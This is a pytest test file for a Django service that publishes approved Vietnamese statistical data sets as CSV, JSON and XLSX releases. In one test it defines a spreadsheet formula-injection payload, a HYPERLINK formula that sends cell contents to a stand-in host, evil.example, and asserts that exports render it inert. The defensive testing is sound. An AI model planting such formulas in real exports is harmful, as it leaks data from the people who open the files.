"""Publishing a data set: what its release files hold, and what they must never hold."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook

from dantoc.opendata import services
from dantoc.opendata.models import Dataset, DatasetState, Release

pytestmark = pytest.mark.django_db


def read_csv(release) -> list[dict]:
    f = release.files.get(format="csv")
    with f.file.open("rb") as fh:
        return list(csv.DictReader(io.StringIO(fh.read().decode("utf-8"))))


def test_publishing_makes_release_one_with_approved_figures_only(people, capital, define):
    dataset = define()
    release = services.dataset_publish(actor=people.province, dataset=dataset)
    assert release.version == 1
    rows = {(r["indicator"], r["unit_code"]): r for r in read_csv(release)}
    # Lũng Cú's approved 800 counts for itself and the province; Ngọc Đường's unapproved
    # 1000 appears nowhere.
    assert rows[("VON_KH", "00715")]["value"] == "800"
    assert rows[("VON_KH", "08")]["value"] == "800"
    assert rows[("VON_GN", "08")]["value"] == "550"
    assert ("VON_KH", "00700") not in rows
    assert rows[("VON_KH", "08")]["unit_name"] == "Tỉnh Tuyên Quang"
    assert release.row_count == len(rows) == 4
    assert release.data_as_of is not None
    assert set(release.files.values_list("format", flat=True)) == {"csv", "json", "xlsx"}
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.PUBLISHED and dataset.published_at


def test_json_and_xlsx_hold_the_same_rows_as_the_csv(people, capital, define):
    release = services.dataset_publish(actor=people.province, dataset=define())
    expected = read_csv(release)
    with release.files.get(format="json").file.open("rb") as fh:
        document = json.load(fh)
    assert [f["id"] for f in document["fields"]][-3:] == ["value", "unit_of_measure", "flag"]
    assert len(document["records"]) == len(expected)
    by_key = {(r["indicator"], r["unit_code"]): r["value"] for r in document["records"]}
    assert by_key[("VON_KH", "08")] == 800
    with release.files.get(format="xlsx").file.open("rb") as fh:
        book = load_workbook(io.BytesIO(fh.read()), read_only=True)
    sheet_rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert sheet_rows[0][-3:] == ("value", "unit_of_measure", "flag")
    assert len(sheet_rows) == len(expected) + 1


def test_a_refresh_with_unchanged_figures_makes_no_new_release(people, capital, define):
    dataset = define()
    services.dataset_publish(actor=people.province, dataset=dataset)
    assert services.dataset_refresh(dataset=dataset, reason="test") is None
    assert Release.objects.filter(dataset=dataset).count() == 1


def test_newly_approved_figures_make_a_new_release_and_keep_the_old_one(
    people, capital, define, von, q3, settings, django_capture_on_commit_callbacks
):
    from dantoc.opendata.tests.conftest import approve, enter_capital

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    dataset = define()
    first = services.dataset_publish(actor=people.province, dataset=dataset)
    enter_capital(people.other_commune, von, q3, {"VON_GN/DA1/DTPT/TW": "10"})
    with django_capture_on_commit_callbacks(execute=True):
        approve(people, people.other_commune, von, q3)
    releases = list(Release.objects.filter(dataset=dataset).order_by("version"))
    assert [r.version for r in releases] == [1, 2]
    assert releases[1].reason == "Có số liệu mới được duyệt"
    rows = {(r["indicator"], r["unit_code"]): r["value"] for r in read_csv(releases[1])}
    assert rows[("VON_KH", "08")] == "1800"
    old = {(r["indicator"], r["unit_code"]): r["value"] for r in read_csv(first)}
    assert old[("VON_KH", "08")] == "800"


def test_a_definition_too_large_to_read_at_once_is_refused_before_saving(people, define):
    with pytest.raises(ValidationError) as caught:
        define(
            actor=people.ministry,
            name="qua-lon",
            indicators=["DA1_HO_NHA_O"],
            units=["VN", "LEVEL-commune"],
            categories=["DAN_TOC", "GIOI_TINH"],
        )
    assert "Quá nhiều ô số liệu" in " ".join(caught.value.message_dict["units"])
    assert not Dataset.objects.filter(name="qua-lon").exists()


def test_only_ministry_and_province_officers_define_data_sets(people, define):
    for persona in ("commune", "editor", "admin"):
        with pytest.raises(PermissionDenied):
            define(actor=getattr(people, persona), name=f"cua-{persona}")
    assert not Dataset.objects.exists()


def test_a_release_that_fails_half_way_leaves_no_release_and_no_files(
    people, capital, define, monkeypatch, settings
):
    from pathlib import Path

    from dantoc.opendata.models import ReleaseFile

    dataset = define()
    real_create = ReleaseFile.objects.create

    def failing_create(**kwargs):
        if kwargs["format"] == "xlsx":
            raise OSError("disk full")
        return real_create(**kwargs)

    monkeypatch.setattr(ReleaseFile.objects, "create", failing_create)
    with pytest.raises(OSError):
        services.dataset_publish(actor=people.province, dataset=dataset)
    assert not Release.objects.filter(dataset=dataset).exists()
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.DRAFT and dataset.published_at is None
    media = Path(settings.MEDIA_ROOT)
    assert not [p for p in media.rglob("*") if p.is_file()]


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'


def test_a_formula_in_a_name_is_inert_in_the_csv_and_xlsx_and_intact_in_the_json(
    people, capital, define
):
    from dantoc.indicators.models import Indicator
    from dantoc.indicators.services import indicator_save
    from dantoc.opendata.selectors import release_preview

    indicator = Indicator.objects.get(code="VON_KH")
    indicator.name = HYPERLINK
    indicator_save(
        actor=people.ministry, indicator=indicator, categories=list(indicator.categories.all())
    )
    release = services.dataset_publish(actor=people.province, dataset=define())
    rows = {(r["indicator"], r["unit_code"]): r for r in read_csv(release)}
    assert rows[("VON_KH", "08")]["indicator_name"] == "'" + HYPERLINK
    assert rows[("VON_KH", "08")]["value"] == "800"
    with release.files.get(format="json").file.open("rb") as fh:
        records = json.load(fh)["records"]
    assert {r["indicator_name"] for r in records if r["indicator"] == "VON_KH"} == {HYPERLINK}
    with release.files.get(format="xlsx").file.open("rb") as fh:
        sheet = load_workbook(io.BytesIO(fh.read())).worksheets[0]
    names = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "VON_KH"]
    assert names and all(c.value == HYPERLINK and c.data_type == "s" for c in names)
    assert all(c.quotePrefix for c in names)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    header, preview = release_preview(release)
    assert HYPERLINK in {line[header.index("indicator_name")] for line in preview}
